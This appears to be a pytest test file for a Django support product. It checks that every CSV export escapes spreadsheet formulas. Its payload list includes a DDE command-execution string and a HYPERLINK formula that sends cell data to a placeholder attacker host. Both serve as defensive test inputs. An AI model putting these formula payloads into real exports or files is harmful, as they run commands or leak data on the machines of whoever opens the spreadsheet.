"""Every CSV the product hands out comes from one writer, and none of its cells is run by a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from decimal import Decimal
from uuid import uuid4

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from support_agent.ops.exports import csv_line
from support_agent.ops.questions import QUESTIONS
from tests.cast import Cast
from tests.content.corpus import ROOT
from tests.ops.made import call, escalate, step, talk, turn
from tests.ops.made_evals import result, run
from tickets.services.messages import message_post

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "\u2212" + "1+1", "=cmd|' /C calc'!A0", "\u202e=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")', "@import", "-2+3+cmd|' /C calc'!A0", "\u3000=1+1", "\x0b=1",
]  # fmt: skip
STARTS = re.compile(r"[=+\-@＝＋－＠−\t\r\n]")


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_formula_is_kept_as_text(formula: str) -> None:
    line = csv_line([formula, "after"])
    assert read(line) == [[f"'{formula}", "after"]]


@pytest.mark.parametrize(
    "kept", ["", "plain", "a=b", "O'Neill", "é-=", 'say "hi"', "a,b", "a\nb", "-12", "-12.50", "1"]
)
def test_ordinary_text_is_left_alone(kept: str) -> None:
    assert read(csv_line([kept])) == [[kept]]


def test_numbers_stay_numbers() -> None:
    assert csv_line([-1, -2.5, Decimal("-3.10"), 0, None, True]) == '-1,-2.5,-3.10,0,"",True\r\n'


def test_the_separator_of_another_country_begins_no_cell() -> None:
    """Where lists are separated by semicolons or tabs, what stands after one in a text is no cell of its own."""
    for separator in ";\t|":
        cells = read(csv_line([f"name{separator}=1+1"]), separator)[0]
        assert not any(STARTS.match(cell) for cell in cells)


def test_nothing_else_writes_csv() -> None:
    """One writer: the module is imported, and the content type named, in one file only."""
    found = {
        str(path.relative_to(ROOT))
        for package in ("support_agent", "tickets")
        for path in (ROOT / package).rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)|^\s*from csv |text/csv", path.read_text(), re.M)
    }
    assert found == {"support_agent/ops/exports.py"}


def csv_routes(patterns: list[URLPattern | URLResolver] | None = None, before: str = "/") -> Iterator[str]:
    """Every address the resolver knows whose route speaks of CSV."""
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        route = before + str(entry.pattern)
        if isinstance(entry, URLResolver):
            yield from csv_routes(entry.url_patterns, route)
        elif "csv" in route or "csv" in (entry.name or ""):
            yield route


def addresses(client: Client, conversation_id: object, run_id: object) -> Iterator[str]:
    """Each route with real values; a route that needs a value nobody gave here fails."""
    for route in csv_routes():
        filled = route.replace("<uuid:conversation_id>", str(conversation_id)).replace("<uuid:run_id>", str(run_id))
        if "<slug:slug>" in filled:
            for slug in QUESTIONS:
                address = filled.replace("<slug:slug>", slug)
                yield address
                answer = client.get(address.removesuffix("export.csv")).context["answer"]
                yield from (f"{address}?table={table.name}" for table in answer.tables)
        else:
            assert "<" not in filled, f"{route}: say in this test what stands there"
            yield filled


@pytest.mark.django_db
def test_no_address_hands_out_a_formula(cast: Cast, client: Client) -> None:
    planted = 0
    tried = run(suite=FORMULAS[0], model=FORMULAS[1], error=FORMULAS[2], code=FORMULAS[3])
    for formula in FORMULAS:
        result(
            tried, formula[:80], "failed", suite=formula[:80], failures=[formula], tools=[formula], outcome=formula[:20]
        )
        talked = talk(cast.owner)
        talked.topic = formula[:80]
        talked.metadata = {"page": formula}
        talked.save()
        message_post(conversation=talked, client_message_id=uuid4(), text=formula)
        of = turn(talked, topic=formula[:80], error=formula, prompt_version=formula[:40], path="planned")
        for status in ("error", "degraded", "not_found"):
            call(of, formula[:60], status)
        step(of, "model_call", model=formula[:60], error=formula, output={"text": formula}, ttft_ms=99_000)
        escalate(talked, "asked")
        planted += 1
    cast.team.name = "=1+1"
    cast.team.save()
    cast.agent.staff_profile.display_name = "@SUM(1)"
    cast.agent.staff_profile.save()
    cast.owner.name = "+1+1"
    cast.owner.save()
    client.force_login(cast.admin)
    asked = list(addresses(client, talked.pk, tried.pk))
    assert len(asked) >= 4 + len(QUESTIONS)
    seen, today = 0, timezone.now().date().isoformat()
    for address in asked:
        answer = client.get(address + ("&" if "?" in address else "?") + f"since={today}")
        assert answer.status_code == 200, address
        assert answer.headers["Content-Type"].startswith("text/csv"), address
        assert answer.headers["Content-Disposition"].startswith("attachment"), address
        assert answer.headers["X-Content-Type-Options"] == "nosniff", address
        for row in read(answer.getvalue().decode()):
            for cell in row:
                seen += cell.startswith("'")
                assert re.fullmatch(r"-[0-9.]+", cell) or not STARTS.match(cell.lstrip()), (address, cell)
    assert seen >= planted
